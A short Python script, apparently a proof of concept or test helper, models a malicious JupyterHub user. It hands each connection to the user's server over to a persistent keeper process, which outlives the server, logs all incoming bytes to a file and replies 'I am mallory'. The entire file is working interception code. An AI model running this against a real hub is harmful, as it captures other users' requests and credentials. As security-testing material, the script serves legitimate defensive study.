"""A malicious user's programs: connections to a server of theirs are kept, and answered, by a program that outlives it.

Both run as that user. `python line_keeper.py serve PATH` stands in for the user's server, and hands each connection to
`python line_keeper.py keep PATH`, which listens at this path. It writes all that comes by a connection to PATH.heard.
"""

import os
import socket
import sys
import threading
from contextlib import suppress
from urllib.parse import urlsplit

ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 12\r\nConnection: keep-alive\r\n\r\nI am mallory"


def serve(path: str) -> None:
    """Where JupyterHub wants the user's server: hand on each connection."""
    place = urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"])
    with socket.create_server((place.hostname, place.port)) as server:
        while True:
            connection, _ = server.accept()
            with connection, socket.socket(socket.AF_UNIX) as keeper:
                keeper.connect(path)
                socket.send_fds(keeper, [b"."], [connection.fileno()])


def answer(connection: socket.socket, heard: str) -> None:
    with connection, suppress(OSError):
        while said := connection.recv(65536):
            with open(heard, "ab") as file:
                file.write(said)
            connection.sendall(ANSWER)


def keep(path: str) -> None:
    """Answer all that comes by connections that are handed over, for good."""
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(path)
        server.listen()
        while True:
            line, _ = server.accept()
            with line:
                _, [number], *_ = socket.recv_fds(line, 1, 1)
            threading.Thread(target=answer, args=(socket.socket(fileno=number), f"{path}.heard"), daemon=True).start()


if __name__ == "__main__":
    {"serve": serve, "keep": keep}[sys.argv[1]](sys.argv[2])
